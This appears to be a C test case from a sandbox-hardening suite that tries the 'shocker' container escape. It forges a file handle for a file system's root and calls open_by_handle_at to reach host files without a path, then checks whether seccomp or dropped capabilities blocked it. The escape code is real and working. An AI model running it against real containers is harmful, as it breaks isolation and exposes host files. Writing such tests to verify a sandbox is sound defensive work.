/* SPDX-License-Identifier: MIT */
/* tries: to open a file of the host by its handle, which needs no path (the "shocker").
 * stopped by: seccomp (open_by_handle_at), capabilities
 * arguments: {secret}
 * options: --on-refusal errno
 * right: ok
 * raw: vm
 */
#include "../attack.h"

static int attack(int argc, char **argv)
{
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } it = {.handle = {.handle_bytes = 128}};
    int mount;
    const int here = open(argc > 0 ? "/box" : ".", O_RDONLY | O_DIRECTORY);

    if (name_to_handle_at(AT_FDCWD, argc > 0 ? argv[0] : "", &it.handle, &mount, 0) != 0) {
        /* The root of most file systems: 2 of ext4, 128 of xfs. */
        it.handle.handle_bytes = 8;
        it.handle.handle_type = 1;
        memcpy(it.handle.f_handle, "\2\0\0\0\0\0\0\0", 8);
    }
    for (int fd = -1; fd < 3; fd++)
        look_for_secret(open_by_handle_at(fd < 0 ? here : fd, &it.handle, O_RDONLY), "a handle");
    look_for_secret(open_by_handle_at(AT_FDCWD, &it.handle, O_RDONLY), "a handle");
    return held("open_by_handle_at");
}
